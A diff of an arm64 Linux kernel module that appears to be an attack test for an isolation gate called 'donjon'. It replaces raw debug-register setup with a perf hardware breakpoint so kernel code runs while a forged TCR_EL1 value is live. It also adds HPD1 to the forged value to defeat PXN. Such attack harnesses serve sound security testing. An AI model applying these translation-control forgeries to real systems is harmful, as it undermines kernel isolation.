@@ -14,16 +14,17 @@
 
 #include <linux/fs.h>
 #include <linux/gfp.h>
+#include <linux/hw_breakpoint.h>
 #include <linux/irqflags.h>
 #include <linux/kstrtox.h>
 #include <linux/mm.h>
+#include <linux/perf_event.h>
 #include <linux/security.h>
 #include <linux/string.h>
 #include <linux/uaccess.h>
 
 #include <asm/cacheflush.h>
 #include <asm/donjon.h>
-#include <asm/debug-monitors.h>
 #include <asm/pgtable.h>
 #include <asm/sysreg.h>
 #include <asm/tlbflush.h>
@@ -32,11 +33,6 @@
 
 /* What the hostile page leaves behind if it ever runs. */
 #define ESCAPED			0x600dUL
-
-/* DBGBCR<n>_EL1: enabled, at EL1, all four bytes of the instruction */
-#define DBGBCR_EL1_E		BIT(0)
-#define DBGBCR_EL1_AT_EL1	BIT(1)
-#define DBGBCR_EL1_WORD		(0xfUL << 5)
 
 #define GRANULE			SZ_64K
 #define DESCRIPTOR_TABLE	3UL
@@ -76,15 +72,33 @@ static noinline unsigned long jump_to_entry_write(unsigned long forged)
 
 extern char donjon_attack_resume[];
 
+/* Where a synchronous exception from EL1 goes. */
+static unsigned long vector(void)
+{
+	return (unsigned long)read_sysreg(vbar_el1) + 0x200;
+}
+
 static void forge(unsigned long value)
 {
 	unsigned long flags;
 
-	pr_info("jumping to the entry write with TCR_EL1 %#lx\n", value);
+	pr_info("jumping to the entry write with TCR_EL1 %#lx, vectors at %#lx\n",
+		value, vector());
 	local_irq_save(flags);
 	jump_to_entry_write(value);
 	local_irq_restore(flags);
 	pr_info("SUCCEEDED: the gate returned\n");
+}
+
+static unsigned long tcr_in_handler;
+
+/* If the vectors let it through: Linux code with the forged value live. */
+static void breakpoint_hit(struct perf_event *event, struct perf_sample_data *data,
+			   struct pt_regs *regs)
+{
+	tcr_in_handler = read_sysreg(tcr_el1);
+	/* Back behind the branch to the gate */
+	instruction_pointer_set(regs, regs->regs[30]);
 }
 
 /*
@@ -92,22 +106,29 @@ static void forge(unsigned long value)
  * value live, before the gate has looked at it. An interrupt would do as well
  * but does not come at a chosen instruction.
  */
-static void breakpoint(unsigned long value)
+static void forge_with_breakpoint(unsigned long value)
 {
-	unsigned long escaped;
+	struct perf_event * __percpu *events;
+	struct perf_event_attr attr;
 
-	pr_info("jumping to the entry write with TCR_EL1 %#lx, a breakpoint behind it\n",
-		value);
-	local_irq_disable();
-	write_sysreg(DONJON_GATE_ENTRY_WRITE + 4, dbgbvr0_el1);
-	write_sysreg(DBGBCR_EL1_E | DBGBCR_EL1_AT_EL1 | DBGBCR_EL1_WORD, dbgbcr0_el1);
-	write_sysreg(0, oslar_el1);
-	sysreg_clear_set(mdscr_el1, 0, DBG_MDSCR_MDE | DBG_MDSCR_KDE);
+	hw_breakpoint_init(&attr);
+	attr.bp_addr = DONJON_GATE_ENTRY_WRITE + 4;
+	attr.bp_len = HW_BREAKPOINT_LEN_4;
+	attr.bp_type = HW_BREAKPOINT_X;
+	events = register_wide_hw_breakpoint(&attr, breakpoint_hit, NULL);
+	if (IS_ERR((void __force *)events)) {
+		pr_err("no breakpoint: %ld\n", PTR_ERR((void __force *)events));
+		return;
+	}
+
+	pr_info("jumping to the entry write with TCR_EL1 %#lx, stopped behind it\n", value);
+	preempt_disable();
+	jump_to_entry_write(value);
+	write_sysreg(DONJON_TCR_OUTER, tcr_el1);
 	isb();
-	asm volatile("msr daifclr, #0x8");
-	escaped = jump_to_entry_write(value);
-	local_irq_enable();
-	pr_info("SUCCEEDED: the gate returned %#lx\n", escaped);
+	preempt_enable();
+	unregister_wide_hw_breakpoint(events);
+	pr_info("SUCCEEDED: Linux ran with TCR_EL1 %#lx\n", tcr_in_handler);
 }
 
 /*
@@ -117,7 +138,7 @@ static void breakpoint(unsigned long value)
  */
 static void geometry(void)
 {
-	unsigned long vectors_va = read_sysreg(vbar_el1) + 0x200;
+	unsigned long vectors_va = vector();
 	unsigned long resume_va = (unsigned long)donjon_attack_resume;
 	unsigned long forged, neighbour, escaped, flags;
 	u64 *table, descriptor;
@@ -145,7 +166,8 @@ static void geometry(void)
 	dsb(ishst);
 
 	forged = DONJON_TCR_OUTER & ~(TCR_TG1_MASK | TCR_T1SZ_MASK);
-	forged |= TCR_TG1_64K | TCR_T1SZ(46);
+	/* HPD1: where the CPU has it, PXN in the table descriptors does not count */
+	forged |= TCR_TG1_64K | TCR_T1SZ(46) | TCR_HPD1;
 	pr_info("jumping to the entry write with TCR_EL1 %#lx, vectors at %#lx\n",
 		forged, vectors_va);
 	local_irq_save(flags);
@@ -175,7 +197,7 @@ static ssize_t attack_write(struct file *file, const char __user *user,
 	else if (!strncmp(text, "forge ", 6) && !kstrtoul(text + 6, 0, &value))
 		forge(value);
 	else if (!strncmp(text, "breakpoint ", 11) && !kstrtoul(text + 11, 0, &value))
-		breakpoint(value);
+		forge_with_breakpoint(value);
 	else
 		return -EINVAL;
 	return count;
